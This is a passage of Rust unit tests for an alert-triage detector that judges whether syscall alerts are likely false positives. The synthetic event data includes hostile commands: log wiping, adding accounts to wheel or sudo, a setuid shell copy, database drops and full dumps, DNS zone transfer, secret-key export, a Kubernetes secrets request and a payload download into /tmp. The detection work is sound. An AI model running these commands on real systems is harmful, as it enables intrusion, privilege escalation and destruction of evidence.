        // The same quiet job emptying a security record instead of its own log.
        let auth = lineage_job(909, 1000, &cron, vec![])
            .into_iter()
            .map(|line| line.replace("/var/log/app/old.log", "/var/log/auth.log"))
            .collect::<Vec<_>>();
        assert_not_anchored(&auth, rule, "the authentication log emptied");
        let rotated = lineage_job(910, 1000, &cron, vec![])
            .into_iter()
            .map(|line| line.replace("/var/log/app/old.log", "/var/log/app/old.log.1"))
            .collect::<Vec<_>>();
        assert_anchored_by(&rotated, rule, "cron");
        // A provisioning job creating an ordinary account is its work; one putting the
        // account into an administrators' group is not quiet, whatever launched it.
        let job_adds = |sid: i64, cmd: &str| {
            let mut ev = cron.clone();
            for (k, v) in [
                ("evt.type", json!("execve")),
                ("evt.rawres", json!(0)),
                ("evt.rawtime", json!(1010)),
                ("proc.sid", json!(sid)),
                ("proc.name", json!(cmd.split(' ').next().unwrap())),
                ("proc.exepath", json!("/usr/sbin/useradd")),
                ("proc.cmdline", json!(cmd)),
                ("proc.pcmdline", json!(format!("sh -c {cmd}"))),
            ] {
                ev[k] = v;
            }
            // The tool reading its defaults: the session has more than the alert.
            let mut read = ev.clone();
            for (k, v) in [
                ("evt.type", json!("openat")),
                ("evt.rawres", json!(3)),
                ("evt.rawtime", json!(1011)),
                ("fd.name", json!("/etc/login.defs")),
                ("fd.num", json!(3)),
            ] {
                read[k] = v;
            }
            vec![l(ev), l(read)]
        };
        // The quiet job's session also empties a security record: its own log's removal
        // is no quieter than that.
        let trunc = json!({"evt.type":"openat","evt.rawres":3,"evt.rawtime":1005,"proc.name":"sh","proc.exepath":"/bin/sh","fd.name":"/var/log/auth.log","fd.num":3,"evt.arg.flags":"O_WRONLY|O_TRUNC","evt.is_open_write":true});
        assert_not_anchored(
            &lineage_job(914, 1000, &cron, vec![trunc]),
            rule,
            "the session empties the authentication log",
        );
        let rule = "User mgmt binaries";
        assert_anchored_by(
            &job_adds(911, "useradd -m -G teachers -s /bin/bash t.okafor"),
            rule,
            "cron",
        );
        assert_not_anchored(
            &job_adds(912, "useradd -m -G wheel -s /bin/bash svc.sync2"),
            rule,
            "an account put into wheel",
        );
        assert_not_anchored(
            &job_adds(913, "usermod -aG sudo t.okafor"),
            rule,
            "an account put into sudo's group",
        );
    }

    /// Session 20 (the blind holdout23): a workload's connections inside the site are its
    /// work, except to another host's remote-administration service. A container's
    /// entrypoint installing its pinned package, then its application reaching its camera,
    /// stays the package manager's known work; the same application also reaching the site
    /// router's management port is a connection that counts.
    #[test]
    fn a_workloads_connection_to_a_remote_administration_port_counts() {
        let rule = "Package manager";
        let run = |dest: &str| {
            let ctr = |v: serde_json::Value| {
                let mut v = v;
                for (k, x) in [
                    ("container.id", json!("2c7b90e4a611")),
                    ("container.image.repository", json!("registry.example/cam")),
                    ("proc.sid", json!(9001)),
                    ("proc.tty", json!(0)),
                    ("user.name", json!("bee")),
                    ("proc.aname[2]", json!("containerd-shim")),
                    ("proc.apid[2]", json!(9001)),
                ] {
                    v[k] = x;
                }
                l(v)
            };
            let lines = vec![
                ctr(
                    json!({"evt.type":"execve","evt.rawres":0,"evt.rawtime":100,"proc.pid":9003,"proc.vpid":3,"proc.name":"pip","proc.exepath":"/usr/local/bin/python3.11","proc.cmdline":"pip /usr/local/bin/pip install --user tflite-runtime==2.14.0","proc.pname":"sh","proc.ppid":9002,"proc.pcmdline":"sh /entrypoint.sh"}),
                ),
                ctr(
                    json!({"evt.type":"connect","evt.rawres":0,"evt.rawtime":110,"proc.pid":9003,"proc.vpid":3,"proc.name":"pip","proc.exepath":"/usr/local/bin/python3.11","proc.cmdline":"pip /usr/local/bin/pip install --user tflite-runtime==2.14.0","proc.pname":"sh","proc.ppid":9002,"fd.name":"10.25.8.85:47983->10.180.0.2:3141"}),
                ),
                ctr(
                    json!({"evt.type":"execve","evt.rawres":0,"evt.rawtime":120,"proc.pid":9004,"proc.vpid":4,"proc.name":"python3","proc.exepath":"/usr/local/bin/python3.11","proc.cmdline":"python3 -m camwatch --camera rtsp://10.180.1.30:554/a","proc.pname":"sh","proc.ppid":9002}),
                ),
                ctr(
                    json!({"evt.type":"connect","evt.rawres":0,"evt.rawtime":130,"proc.pid":9004,"proc.vpid":4,"proc.name":"python3","proc.exepath":"/usr/local/bin/python3.11","proc.cmdline":"python3 -m camwatch --camera rtsp://10.180.1.30:554/a","proc.pname":"sh","proc.ppid":9002,"fd.name":format!("10.25.8.85:34089->{dest}")}),
                ),
            ];
            let r = verdict_of(&lines, rule);
            assert_eq!(r.len(), 1, "{r:#?}");
            r[0].clone()
        };
        let camera = run("10.180.1.30:554");
        assert!(signals(&camera).contains(&"known_benign"), "{camera:#?}");
        assert!(
            !signals(&camera).contains(&"session_outbound"),
            "{camera:#?}"
        );
        for dest in ["10.180.0.1:8291", "10.180.0.9:3389", "10.180.0.9:445"] {
            let r = run(dest);
            assert!(signals(&r).contains(&"session_outbound"), "{dest}: {r:#?}");
            assert_ne!(r.verdict, Verdict::LikelyFalsePositive, "{dest}: {r:#?}");
        }
    }

    /// Session 20 (the blind holdout24): a configuration run's read of login keys is the
    /// agent's known work while its session stays in the site; pulled from a repository
    /// outside the site, the catalogue still names the agent but no longer anchors a likely
    /// false positive.
    #[test]
    fn a_known_agent_pulled_from_outside_does_not_anchor_a_sensitive_read() {
        let rule = "Read ssh";
        let run = |dest: &str| {
            let base = json!({"proc.sid":6100,"proc.tty":0,"user.name":"root","proc.aname[2]":"ansible-playboo","proc.aname[3]":"ansible-pull","proc.aname[4]":"systemd","proc.apid[4]":1});
            let ev = |v: serde_json::Value| {
                let mut out = base.clone();
                for (k, x) in v.as_object().unwrap() {
                    out[k] = x.clone();
                }
                l(out)
            };
            let lines = vec![
                ev(
                    json!({"evt.type":"execve","evt.rawres":0,"evt.rawtime":100,"proc.pid":6101,"proc.name":"git-remote-http","proc.exepath":"/usr/lib/git-core/git-remote-https","proc.cmdline":"git-remote-http origin https://git.example/laptops.git","proc.pname":"git","proc.aname[2]":"ansible-pull","proc.aname[3]":"systemd"}),
                ),
                ev(
                    json!({"evt.type":"connect","evt.rawres":0,"evt.rawtime":110,"proc.pid":6101,"proc.name":"git-remote-http","proc.exepath":"/usr/lib/git-core/git-remote-https","proc.cmdline":"git-remote-http origin https://git.example/laptops.git","proc.pname":"git","proc.aname[2]":"ansible-pull","proc.aname[3]":"systemd","fd.name":format!("10.9.0.4:40100->{dest}")}),
                ),
                ev(
                    json!({"evt.type":"execve","evt.rawres":0,"evt.rawtime":120,"proc.pid":6103,"proc.name":"python3","proc.exepath":"/usr/bin/python3.11","proc.cmdline":"python3 /root/.ansible/tmp/a-1/AnsiballZ_authorized_key.py","proc.pname":"sh"}),
                ),
                ev(
                    json!({"evt.type":"openat","evt.rawres":3,"evt.rawtime":130,"proc.pid":6103,"proc.name":"python3","proc.exepath":"/usr/bin/python3.11","proc.cmdline":"python3 /root/.ansible/tmp/a-1/AnsiballZ_authorized_key.py","proc.pname":"sh","fd.name":"/home/field/.ssh/authorized_keys","fd.num":3,"evt.is_open_read":true}),
                ),
            ];
            let r = verdict_of(&lines, rule);
            assert_eq!(r.len(), 1, "{r:#?}");
            r[0].clone()
        };
        let inside = run("10.90.0.15:443");
        assert!(signals(&inside).contains(&"known_benign"), "{inside:#?}");
        assert_eq!(inside.verdict, Verdict::LikelyFalsePositive, "{inside:#?}");
        let outside = run("198.51.100.202:443");
        assert!(signals(&outside).contains(&"known_benign"), "{outside:#?}");
        assert_eq!(outside.anchor, None, "{outside:#?}");
        assert_ne!(
            outside.verdict,
            Verdict::LikelyFalsePositive,
            "{outside:#?}"
        );
    }

    /// Session 20 (the blind holdout24): a setuid copy of a shell made in a person's session
    /// is a step no routine work takes, against that session's other alerts as well.
    #[test]
    fn a_setuid_shell_is_a_step_against_its_session() {
        let rule = "Read ssh";
        let run = |cmd: &str| {
            let base = json!({"proc.sid":6200,"proc.tty":34819,"user.name":"root","proc.pname":"sudo","proc.aname[2]":"zsh","proc.aname[3]":"screen"});
            let ev = |v: serde_json::Value| {
                let mut out = base.clone();
                for (k, x) in v.as_object().unwrap() {
                    out[k] = x.clone();
                }
                l(out)
            };
            let name = cmd.split(' ').next().unwrap();
            let lines = vec![
                ev(
                    json!({"evt.type":"openat","evt.rawres":3,"evt.rawtime":100,"proc.pid":6201,"proc.name":"cat","proc.exepath":"/usr/bin/cat","proc.cmdline":"cat /home/lab/.ssh/known_hosts","fd.name":"/home/lab/.ssh/known_hosts","fd.num":3,"evt.is_open_read":true}),
                ),
                ev(
                    json!({"evt.type":"execve","evt.rawres":0,"evt.rawtime":110,"proc.pid":6202,"proc.name":name,"proc.exepath":format!("/usr/bin/{name}"),"proc.cmdline":cmd}),
                ),
            ];
            let r = verdict_of(&lines, rule);
            assert_eq!(r.len(), 1, "{r:#?}");
            signals(&r[0]).contains(&"session_attack_step")
        };
        assert!(run("install -m 4755 /bin/bash /srv/jobs/.j"));
        assert!(run("chmod u+s /usr/bin/python3.11"));
        assert!(!run("chmod 2775 /srv/jobs"));
        assert!(!run(
            "install -m 4755 /opt/lab/helper /usr/local/bin/helper"
        ));
    }

    /// Session 19: what a process let in counts against its own alert. A login page's
    /// process (here reading a key file) whose terminal session below it puts an account
    /// into `wheel` or empties a security log gets the attack step; the same session
    /// removing an account from an ordinary group, or a shell escape that only starts the
    /// session, does not.
    #[test]
    fn a_step_in_a_session_started_below_counts_against_the_process() {
        let rule = "Read ssh";
        let run = |cmd: &str, extra: Option<serde_json::Value>| {
            let mut evs = vec![
                json!({"evt.type":"openat","evt.rawres":3,"evt.rawtime":100,"proc.pid":700,"proc.sid":700,"proc.name":"miniserv.pl","proc.exepath":"/usr/bin/perl","proc.cmdline":"miniserv.pl /etc/webmin/miniserv.conf","proc.pname":"systemd","proc.ppid":1,"fd.name":"/home/admin/.ssh/known_hosts","fd.num":3,"evt.is_open_read":true}),
                json!({"evt.type":"execve","evt.rawres":0,"evt.rawtime":110,"proc.pid":705,"proc.sid":700,"proc.name":"shellserver.pl","proc.exepath":"/usr/bin/perl","proc.cmdline":"shellserver.pl 555 root","proc.pname":"miniserv.pl","proc.ppid":700}),
                json!({"evt.type":"execve","evt.rawres":0,"evt.rawtime":120,"proc.pid":710,"proc.sid":710,"proc.name":"bash","proc.exepath":"/usr/bin/bash","proc.cmdline":"bash -l","proc.tty":34817,"proc.pname":"shellserver.pl","proc.ppid":705,"proc.apid[2]":700,"proc.aname[2]":"miniserv.pl"}),
                json!({"evt.type":"execve","evt.rawres":0,"evt.rawtime":130,"proc.pid":711,"proc.sid":710,"proc.name":cmd.split(' ').next().unwrap(),"proc.exepath":"/usr/sbin/gpasswd","proc.cmdline":cmd,"proc.tty":34817,"proc.pname":"bash","proc.ppid":710,"proc.apid[2]":705,"proc.aname[2]":"shellserver.pl","proc.apid[3]":700,"proc.aname[3]":"miniserv.pl"}),
            ];
            evs.extend(extra);
            let lines: Vec<String> = evs.into_iter().map(l).collect();
            verdict_of(&lines, rule)
        };
        let has_step = |r: &[ClusterReport]| {
            assert_eq!(r.len(), 1, "{r:#?}");
            signals(&r[0]).contains(&"session_attack_step")
        };
        let granted = run("gpasswd -a billingsvc wheel", None);
        assert!(has_step(&granted));
        let text = serde_json::to_string(&granted[0].to_json()).unwrap();
        assert!(text.contains("in a session it started"), "{text}");
        assert!(!has_step(&run("gpasswd -d jhalloran billing", None)));
        let wipe = json!({"evt.type":"openat","evt.rawres":3,"evt.rawtime":140,"proc.pid":712,"proc.sid":710,"proc.name":"cp","proc.exepath":"/usr/bin/cp","proc.cmdline":"cp /dev/null /var/log/secure","proc.pname":"bash","proc.ppid":710,"fd.name":"/var/log/secure","fd.num":3,"evt.arg.flags":"O_WRONLY|O_TRUNC","evt.is_open_write":true});
        assert!(has_step(&run("gpasswd -d jhalloran billing", Some(wipe))));
    }

    /// Session 15: a schedule change refutes only the jobs it can have started. Another
    /// account's own crontab (installed with `crontab -u`, by `crontab FILE` as that
    /// account, or written into the spool under its name) or a systemd unit leaves a root
    /// cron job anchored; the same account's job, a job that changes user on the way, a
    /// system table and a table whose owner is unknown still refute it.
    #[test]
    fn a_schedule_change_refutes_only_the_jobs_it_can_start() {
        let rule = "Clear Log Activities";
        let job_as = |user: &str, pname: &str| json!({"proc.tty":0,"proc.pname":pname,"proc.pcmdline":"sh -c rm -f /var/log/app/old.log","proc.aname[2]":"cron","proc.aname[3]":"systemd","user.name":user});
        let crontab = |cmd: &str, user: &str| json!({"evt.type":"execve","evt.rawres":0,"evt.rawtime":6,"proc.sid":43,"proc.name":"crontab","proc.cmdline":cmd,"proc.pname":"sh","user.name":user});
        let wrote = |path: &str, user: &str| json!({"evt.type":"openat","evt.rawres":3,"evt.rawtime":5,"proc.sid":42,"proc.name":"bash","proc.pname":"sshd","proc.tty":34816,"fd.name":path,"evt.is_open_write":true,"fd.num":3,"user.name":user});
        let run = |before: serde_json::Value, sid: i64, job: &serde_json::Value| {
            let mut lines = vec![l(before)];
            lines.extend(lineage_job(sid, 1000, job, vec![]));
            lines
        };
        let root_job = job_as("root", "sh");
        // Another account's table: the root job keeps its anchor.
        for (i, before) in [
            crontab("crontab -u logship -", "root"),
            crontab("crontab -ulogship /tmp/c", "root"),
            crontab("crontab /tmp/tmpk2x_9xwq", "frappe"),
            wrote("/var/spool/cron/crontabs/logship", "root"),
            wrote("/var/spool/cron/metrics", "root"),
            wrote("/etc/systemd/system/backup.timer", "root"),
        ]
        .into_iter()
        .enumerate()
        {
            let why = before.to_string();
            let lines = run(before, 920 + i as i64, &root_job);
            let r = verdict_of(&lines, rule);
            assert_eq!(r.len(), 1, "{why}: {r:#?}");
            assert_eq!(
                r[0].verdict,
                Verdict::LikelyFalsePositive,
                "{why}: {:#?}",
                r[0]
            );
            assert!(signals(&r[0]).contains(&"job_quiet"), "{why}: {:#?}", r[0]);
        }
        // The same account's job; a job that changes user on its way; a system table; a
        // spool file or table whose owner is not known.
        let cases = [
            (
                crontab("crontab -u logship -", "root"),
                job_as("logship", "sh"),
            ),
            (
                crontab("crontab /tmp/tmpk2x_9xwq", "frappe"),
                job_as("frappe", "sh"),
            ),
            (
                crontab("crontab -u logship -", "root"),
                job_as("root", "sudo"),
            ),
            (
                wrote("/var/spool/cron/crontabs/logship", "root"),
                job_as("logship", "sh"),
            ),
            (wrote("/etc/cron.d/sync", "logship"), root_job.clone()),
            (wrote("/etc/crontab", "root"), root_job.clone()),
            (wrote("/etc/cron.daily/sync", "root"), root_job.clone()),
            (
                wrote("/var/spool/cron/crontabs/tmp.3310", "root"),
                root_job.clone(),
            ),
            (crontab("crontab /tmp/c", "root"), root_job.clone()),
            (
                json!({"evt.type":"execve","evt.rawres":0,"evt.rawtime":6,"proc.sid":43,"proc.name":"crontab","proc.cmdline":"crontab /tmp/c","proc.pname":"sh"}),
                job_as("logship", "sh"),
            ),
        ];
        for (i, (before, job)) in cases.into_iter().enumerate() {
            let why = format!("{before} then {job}");
            assert_not_anchored(&run(before, 940 + i as i64, &job), rule, &why);
        }
    }

    /// Session 14 (judge14): what the blind sets' attacks called likely false positive had
    /// in common that no anchor weighed. A person's quiet session whose commands take or
    /// destroy a whole store (every database dumped, a zone transferred, secret keys
    /// exported, a database dropped) or remove a log the session itself had just created;
    /// a quiet job whose session drops a database; a catalogue agent's own write of a
    /// persistence location; a container's work beside another session asking for its
    /// secrets: none is anchored, while the same sessions without it are.
    #[test]
    fn whole_store_commands_destroyed_logs_and_agent_persistence_are_not_anchored() {
        const LOG: &str = "/var/log/app/debug.log";
        let rule = "Clear Log Activities";
        // sshd -> bash (leader) -> rm of an application log, with `extra` in the session.
        let person = |sid: i64, extra: Vec<serde_json::Value>| {
            let mut evs = vec![
                json!({"evt.type":"execve","evt.rawres":0,"evt.rawtime":1_000_000_000_000u64,"proc.pid":sid,"proc.name":"bash","proc.exepath":"/usr/bin/bash","proc.cmdline":"-bash","proc.pname":"sshd","proc.aname[1]":"sshd","proc.apid[1]":sid - 1}),
                json!({"evt.type":"unlinkat","evt.rawres":0,"evt.rawtime":1_000_200_000_000u64,"proc.pid":sid + 2,"proc.name":"rm","proc.exepath":"/usr/bin/rm","proc.cmdline":format!("rm -f {LOG}"),"fs.path.name":LOG}),
            ];
            evs.extend(extra);
            evs.into_iter()
                .map(|mut v| {
                    v["proc.sid"] = json!(sid);
                    v["proc.tty"] = json!(34816);
                    if v.get("proc.pname").is_none() {
                        v["proc.pname"] = json!("bash");
                        v["proc.aname[1]"] = json!("bash");
                        v["proc.apid[1]"] = json!(sid);
                        v["proc.aname[2]"] = json!("sshd");
                        v["proc.apid[2]"] = json!(sid - 1);
                    }
                    l(v)
                })
                .collect::<Vec<String>>()
        };
        let run = |t: u64, exe: &str, cmd: &str| {
            let name = exe.rsplit('/').next().unwrap_or(exe);
            json!({"evt.type":"execve","evt.rawres":0,"evt.rawtime":t,"proc.pid":990_000 + (t / 1_000_000_000) % 1000,"proc.name":name,"proc.exepath":exe,"proc.cmdline":cmd})
        };
        let file = |t: u64, ty: &str, exe: &str, path: &str, flags: &str| {
            let name = exe.rsplit('/').next().unwrap_or(exe);
            json!({"evt.type":ty,"evt.rawres":0,"evt.rawtime":t,"proc.pid":980_000 + (t / 1_000_000_000) % 1000,"proc.name":name,"proc.exepath":exe,"fd.name":path,"fs.path.name":path,"evt.arg.name":path,"evt.arg.flags":flags})
        };
        let t = 1_000_300_000_000u64;
        let lfp = |lines: Vec<String>, why: &str| {
            let r = verdict_of(&lines, rule);
            assert!(!r.is_empty(), "{why}");
            for c in &r {
                assert_eq!(c.verdict, Verdict::LikelyFalsePositive, "{why}: {c:#?}");
            }
        };
        let not_lfp = |lines: Vec<String>, why: &str| {
            let r = verdict_of(&lines, rule);
            assert!(!r.is_empty(), "{why}");
            for c in &r {
                assert_ne!(c.verdict, Verdict::LikelyFalsePositive, "{why}: {c:#?}");
            }
        };
        // The same tools asked for one thing keep the person's anchor.
        lfp(person(800, vec![]), "the quiet session");
        lfp(
            person(801, vec![run(t, "/usr/bin/mysql", "mysql -e SELECT 1")]),
            "a query",
        );
        lfp(
            person(
                802,
                vec![run(
                    t,
                    "/usr/bin/dig",
                    "dig @10.0.0.2 api.corp.example +short",
                )],
            ),
            "a lookup",
        );
        lfp(
            person(
                803,
                vec![run(t, "/usr/bin/mysqldump", "mysqldump shop orders")],
            ),
            "one table dumped",
        );
        // A rotation creating its copy and removing it itself (compress), by one program.
        lfp(
            person(
                804,
                vec![
                    file(
                        t,
                        "openat",
                        "/usr/sbin/logrotate",
                        "/var/log/nginx/access.log.1",
                        "O_WRONLY|O_CREAT|O_EXCL",
                    ),
                    file(
                        t + 1,
                        "unlinkat",
                        "/usr/sbin/logrotate",
                        "/var/log/nginx/access.log.1",
                        "",
                    ),
                ],
            ),
            "a rotation removing its own copy",
        );
        for (sid, cmd) in [
            (810, "mysql -u root -e \"DROP DATABASE shop\""),
            (811, "clickhouse-client -q 'drop schema if exists events'"),
            (812, "redis-cli -h 10.0.0.9 FLUSHALL"),
            (813, "mongosh --eval db.dropDatabase()"),
            (814, "mysqldump --all-databases --single-transaction"),
            (815, "dig @10.0.0.2 corp.example AXFR"),
            (816, "host -t axfr corp.example 10.0.0.2"),
            (817, "gpg --armor --export-secret-keys"),
        ] {
            let exe = format!("/usr/bin/{}", cmd.split_whitespace().next().unwrap());
            not_lfp(person(sid, vec![run(t, &exe, cmd)]), cmd);
        }
        // The rotation's fresh copy removed by another program of the session.
        not_lfp(
            person(
                820,
                vec![
                    file(
                        t,
                        "openat",
                        "/usr/sbin/logrotate",
                        "/var/log/nginx/access.log.1",
                        "O_WRONLY|O_CREAT|O_EXCL",
                    ),
                    file(
                        t + 1,
                        "unlinkat",
                        "/usr/bin/rm",
                        "/var/log/nginx/access.log.1",
                        "",
                    ),
                ],
            ),
            "the fresh copy removed",
        );

        // A cron job: quiet, anchored; the same job's session dropping a database, not.
        let cron = json!({"proc.tty":0,"proc.pname":"sh","proc.pcmdline":"sh -c rm -f /var/log/app/old.log","proc.aname[2]":"cron","proc.aname[3]":"systemd"});
        assert_anchored_by(&lineage_job(830, 1000, &cron, vec![]), rule, "cron");
        let drop = json!({"evt.type":"execve","evt.rawres":0,"evt.rawtime":1001,"proc.name":"psql","proc.exepath":"/usr/bin/psql","proc.cmdline":"psql -c \"DROP DATABASE reports\""});
        assert_not_anchored(
            &lineage_job(831, 1000, &cron, vec![drop]),
            rule,
            "a database dropped",
        );

        // A configuration agent's own write of login keys: its catalogue entry is weighed,
        // it does not anchor (what a compromised server tells the agent to install is the
        // intruder's).
        let agent = |sid: i64, path: &str| {
            vec![l(
                json!({"evt.type":"openat","evt.rawres":3,"fd.num":3,"evt.rawtime":2000,"proc.sid":sid,"proc.pid":sid + 1,"proc.tty":0,"proc.name":"cf-agent","proc.exepath":"/var/cfengine/bin/cf-agent","proc.cmdline":"/var/cfengine/bin/cf-agent -I","proc.pname":"cf-execd","proc.aname[1]":"cf-execd","proc.aname[2]":"systemd","fd.name":path,"evt.is_open_write":true,"evt.arg.flags":"O_WRONLY|O_CREAT|O_TRUNC"}),
            )]
        };
        let r = verdict_of(&agent(840, "/home/deploy/.ssh/authorized_keys"), "Read ssh");
        assert_eq!(r.len(), 1, "{r:#?}");
        assert!(signals(&r[0]).contains(&"known_benign"), "{:#?}", r[0]);
        assert_ne!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
        assert_eq!(r[0].anchor, None, "{:#?}", r[0]);

        // A workload's own tree is anchored; beside another session of its container that
        // asks the orchestrator for secrets, it is not (a health check beside it keeps it).
        let ctr = json!({"container.id":"c0ffee000009","container.privileged":false,"proc.tty":0,"proc.vpid":9,"proc.pname":"sh","proc.aname[2]":"containerd-shim","proc.apid[1]":4001,"proc.apid[2]":4000,"thread.cap_effective":"CAP_CHOWN CAP_KILL"});
        let beside = |sid: i64, cmd: &str| {
            let mut lines = lineage_job(sid, 1000, &ctr, vec![]);
            lines.push(l(
                json!({"evt.type":"execve","evt.rawres":0,"evt.rawtime":1005,"proc.sid":sid + 1,"proc.pid":sid + 2,"proc.vpid":40,"proc.name":"curl","proc.exepath":"/usr/bin/curl","proc.cmdline":cmd,"container.id":"c0ffee000009","proc.pname":"bash","proc.tty":34816}),
            ));
            lines
        };
        assert_anchored_by(
            &beside(850, "curl -s http://127.0.0.1:8080/healthz"),
            rule,
            "entrypoint sh",
        );
        let r = verdict_of(
            &beside(
                852,
                "curl -sk https://kubernetes.default.svc/api/v1/namespaces/shop/secrets",
            ),
            rule,
        );
        assert_eq!(r.len(), 1, "{r:#?}");
        assert_ne!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
        assert!(
            signals(&r[0]).contains(&"container_attack_step"),
            "{:#?}",
            r[0]
        );
    }

    /// Session 13 (helper recall13): a unit's or timer's job (init, no terminal, login,
    /// runtime, service, scheduler or CI runner below it) is anchored by `job_recurs` only
    /// when the same act recurs, quiet, in two or more separate sessions. One session is
    /// not enough (`setsid cmd &` is re-parented to init too); neither is a repetition
    /// whose other session fetched a payload, sits at a terminal, or answers a connection
    /// from outside the site; a quiet read of a sensitive file recurring the same way is
    /// the job's purpose (`job_reads_by_purpose`).
    #[test]
    fn a_timers_job_recurring_quietly_is_anchored_and_its_forgeries_are_not() {
        let rule = "Clear Log Activities";
        let unit = json!({"proc.tty":0,"proc.ppid":500,"proc.pname":"sh","proc.pcmdline":"sh -c rm -f /var/log/app/old.log","proc.aname[2]":"systemd"});
        let recurs = |lines: &[String]| {
            verdict_of(lines, rule)
                .iter()
                .any(|c| signals(c).contains(&"job_recurs"))
        };
        // Once: no anchor, whatever else.
        let once = lineage_job(960, 1000, &unit, vec![]);
        assert!(!recurs(&once));
        assert_not_anchored(&once, rule, "one session");
        // Twice, each quiet: anchored by the recurrence.
        let mut twice = lineage_job(960, 1000, &unit, vec![]);
        twice.extend(lineage_job(961, 90_000, &unit, vec![]));
        let r = verdict_of(&twice, rule);
        assert_eq!(r.len(), 1, "{r:#?}");
        assert_eq!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
        assert_eq!(r[0].anchor.as_deref(), Some("job_recurs (unattended)"));
        // The other run fetched a payload first: it is no quiet session, and one is not
        // a recurrence.
        let fetch = json!({"evt.type":"execve","evt.rawres":0,"evt.rawtime":90_001,"proc.name":"curl","proc.exepath":"/usr/bin/curl","proc.cmdline":"curl -so /tmp/x https://203.0.113.50/x"});
        let mut lines = lineage_job(960, 1000, &unit, vec![]);
        lines.extend(lineage_job(961, 90_000, &unit, vec![fetch]));
        assert!(!recurs(&lines), "a download in the other session");
        assert_not_anchored(&lines, rule, "a download in the other session");
        // The other run staged a hidden file in a temporary directory (a step no routine
        // work takes, a veto): no quiet session either.
        let staged = json!({"evt.type":"openat","evt.rawres":3,"evt.rawtime":90_001,"proc.name":"cp","proc.exepath":"/usr/bin/cp","fd.name":"/tmp/.x","evt.is_open_write":true,"fd.num":3});
        let mut lines = lineage_job(960, 1000, &unit, vec![]);
        lines.extend(lineage_job(961, 90_000, &unit, vec![staged]));
        assert!(!recurs(&lines), "a hidden file staged in the other session");
        // At a terminal, twice: a person (or an intruder), not a unit.
        let tty = json!({"proc.tty":34816,"proc.pname":"sh","proc.aname[2]":"systemd"});
        let mut lines = lineage_job(962, 1000, &tty, vec![]);
        lines.extend(lineage_job(963, 90_000, &tty, vec![]));
        assert!(!recurs(&lines), "a terminal");
        // The parent daemon accepted a connection from outside the site (its work answers
        // somebody there); from inside, it is still the unit's own work.
        let accept = |cip: &str| {
            l(
                json!({"evt.type":"accept4","evt.rawres":5,"evt.rawtime":900,"proc.sid":1,"proc.pid":500,"proc.name":"printd","fd.cip":cip,"fd.sip":"10.0.0.5","fd.sport":631}),
            )
        };
        let mut lines = vec![accept("203.0.113.9")];
        lines.extend(twice.iter().cloned());
        assert!(!recurs(&lines), "served outside");
        assert_not_anchored(&lines, rule, "served outside");
        let mut lines = vec![accept("10.60.14.87")];
        lines.extend(twice.iter().cloned());
        assert!(recurs(&lines), "served inside");
        // A sensitive file only read, recurring quietly: its purpose, likely false positive;
        // the same with a fetch in one run: not.
        let read = |sid: i64, t0: i64, before: Vec<serde_json::Value>| {
            let mut evs = before;
            evs.push(json!({"evt.type":"execve","evt.rawres":0,"evt.rawtime":t0,"proc.name":"tar","proc.exepath":"/usr/bin/tar","proc.cmdline":"tar czf /var/backups/root.tgz /root"}));
            evs.push(json!({"evt.type":"openat","evt.rawres":3,"evt.rawtime":t0 + 1,"proc.name":"tar","proc.exepath":"/usr/bin/tar","fd.name":"/root/.ssh/id_ed25519","evt.is_open_read":true,"fd.num":3}));
            evs.into_iter()
                .map(|mut v| {
                    v["proc.sid"] = json!(sid);
                    v["proc.tty"] = json!(0);
                    v["proc.pname"] = json!("systemd");
                    l(v)
                })
                .collect::<Vec<String>>()
        };
        let mut lines = read(970, 1000, vec![]);
        lines.extend(read(971, 90_000, vec![]));
        let r = verdict_of(&lines, "Read ssh");
        assert_eq!(r.len(), 1, "{r:#?}");
        assert_eq!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
        assert!(
            signals(&r[0]).contains(&"job_reads_by_purpose"),
            "{:#?}",
            r[0]
        );
        let mut lines = read(970, 1000, vec![]);
        lines.extend(read(971, 90_000, vec![fetch_at(89_999)]));
        for c in verdict_of(&lines, "Read ssh") {
            assert_ne!(c.verdict, Verdict::LikelyFalsePositive, "{c:#?}");
        }
    }

    /// A server answering a client outside the site that connects to the cloud instance
    /// metadata service was steered there (`server_steered`, a veto): never a likely false
    /// positive, whatever else holds; the same connection by a server whose clients are
    /// inside the site, or by a program that serves nobody (an SDK refreshing the instance
    /// role's credentials), is not that signal (blind holdout17, session 16).
    #[test]
    fn a_server_answering_outside_clients_steered_to_the_metadata_service() {
        let session = |client: Option<&str>| {
            let mut evs = Vec::new();
            if let Some(cip) = client {
                evs.push(json!({"evt.type":"accept4","evt.rawres":5,"evt.rawtime":100,"fd.cip":cip,"fd.sip":"10.0.0.5","fd.sport":3478}));
            }
            evs.push(json!({"evt.type":"connect","evt.rawres":0,"evt.rawtime":200,"fd.sip":"169.254.169.254","fd.sport":80,"fd.name":"10.0.0.5:40110->169.254.169.254:80"}));
            evs.into_iter()
                .map(|mut v| {
                    for (k, val) in [
                        ("proc.pid", json!(800)),
                        ("proc.sid", json!(800)),
                        ("proc.tty", json!(0)),
                        ("proc.name", json!("turnserver")),
                        ("proc.exepath", json!("/usr/bin/turnserver")),
                        ("proc.cmdline", json!("turnserver -c /etc/turnserver.conf")),
                        ("proc.pname", json!("systemd")),
                        ("proc.ppid", json!(1)),
                    ] {
                        v[k] = val;
                    }
                    l(v)
                })
                .collect::<Vec<String>>()
        };
        let r = verdict_of(&session(Some("203.0.113.199")), "Metadata contact");
        assert_eq!(r.len(), 1, "{r:#?}");
        assert!(signals(&r[0]).contains(&"server_steered"), "{:#?}", r[0]);
        assert_eq!(r[0].verdict, Verdict::LikelyReal, "{:#?}", r[0]);
        let why = &r[0]
            .reasons
            .iter()
            .find(|x| x.signal == "server_steered")
            .unwrap()
            .evidence;
        assert!(
            why.contains("203.0.113.199") && why.contains("turnserver"),
            "{why}"
        );
        for client in [Some("10.0.7.19"), None] {
            let r = verdict_of(&session(client), "Metadata contact");
            assert_eq!(r.len(), 1, "{client:?}: {r:#?}");
            assert!(
                !signals(&r[0]).contains(&"server_steered"),
                "{client:?}: {:#?}",
                r[0]
            );
        }
    }

    fn fetch_at(t: i64) -> serde_json::Value {
        json!({"evt.type":"execve","evt.rawres":0,"evt.rawtime":t,"proc.name":"curl","proc.exepath":"/usr/bin/curl","proc.cmdline":"curl -so /tmp/x https://203.0.113.50/x"})
    }

